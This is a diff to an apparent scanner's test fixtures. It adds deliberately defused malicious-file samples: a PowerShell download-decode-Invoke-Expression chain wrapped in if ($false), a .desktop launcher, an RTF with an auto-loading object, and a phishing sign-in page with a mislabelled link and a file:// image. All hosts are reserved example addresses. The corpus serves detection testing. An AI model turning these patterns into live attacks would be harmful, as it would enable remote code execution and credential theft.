@@ -42,6 +42,11 @@ fn scripts() -> Vec<Sample> {
             let code = "<script>var u = \"http://example.com/s/hta\";</script></head><body>請求書</body></html>\r\n";
             format!("<!-- {} --><html><head><hta:application id=\"a\">{code}", mark("fs1-hta")).into()
         }),
+        sample("fs1-fetch", "更新.ps1", "a script that names a download and a decoder and uses neither", || {
+            let code = "if ($false) {\r\n  $t = (New-Object Net.WebClient).DownloadString('http://example.com/s/x')\r\n  \
+                        Invoke-Expression ([Text.Encoding]::UTF8.GetString([Convert]::FromBase64String($t)))\r\n}\r\n";
+            format!("# {}\r\n{code}", mark("fs1-fetch")).into()
+        }),
         sample("fs1-jse", "請求書.jse", "the mark of an encoded script, around nothing", || {
             b"#@~^AAAAAA==AAAAAA==^#~@\r\n".to_vec()
         }),
@@ -78,6 +83,24 @@ fn shortcuts() -> Vec<Sample> {
         sample("fo5-iqy", "写真.iqy", "a query that makes Excel fetch from an address", || {
             b"WEB\r\n1\r\nhttp://example.com/q\r\n".to_vec()
         }),
+        sample("fx5-desktop", "写真.desktop", "a desktop entry that runs a shell", || {
+            b"[Desktop Entry]\nType=Application\nName=photo.jpg\nIcon=image\nExec=sh -c \"harmless-none\"\n".to_vec()
+        }),
+        sample("fo5-slk", "見積.slk", "a SYLK spreadsheet with one number", || {
+            b"ID;PWXL;N;E\r\nC;Y1;X1;K1000\r\nE\r\n".to_vec()
+        }),
+        sample(
+            "fr1-object",
+            "案内.rtf",
+            "an odd RTF header and an object that loads by itself, without content",
+            || {
+                format!(
+                    "{{\\rt\\ansi {}{{\\object\\objemb\\objupdate{{\\*\\objdata 0105}}}}\\par}}",
+                    mark("fr1-object")
+                )
+                .into()
+            },
+        ),
         sample("fr1", "案内.rtf", "an RTF that names a template on the web", || {
             format!("{{\\rtf1\\ansi{{\\*\\template http://example.com/t}}{}\\par}}", mark("fr1")).into()
         }),
@@ -118,6 +141,22 @@ fn pages() -> Vec<Sample> {
         }),
         sample("fe19", "案内.html", "a link that abuses Outlook's handling of file: addresses", || {
             b"<html><body><p><a href=\"file:///\\\\192.0.2.40\\s\\a.rtf!x\">Details</a></p></body></html>\n".to_vec()
+        }),
+        sample(
+            "fs6-login",
+            "請求書.html",
+            "a page that asks for a password, lies about a link and shows a share's picture",
+            || {
+                let text = "<!DOCTYPE html><html><meta charset=\"utf-8\"><body><h1>サインイン</h1><form \
+                        action=\"https://login.example.net/p\"><input name=\"u\"><input type=\"password\" name=\"p\"></form>\
+                        <p><a href=\"https://login.example.net/\">https://www.example.com/</a></p><img \
+                        src=\"file://192.0.2.40/s/a.png\"></body></html>\n";
+                text.into()
+            },
+        ),
+        sample("fs6-redirect", "請求書.html", "a page that only leads to another address", || {
+            b"<html><head><meta http-equiv=\"refresh\" content=\"0; url=https://example.net/\"></head></html>\n"
+                .to_vec()
         }),
         sample("b13-svg", "ロゴ.svg", "an honest logo with a style and an animation", || {
             let text = "<?xml version=\"1.0\" encoding=\"UTF-8\"?>\n<svg xmlns=\"http://www.w3.org/2000/svg\" viewBox=\"0 0 20 20\">\
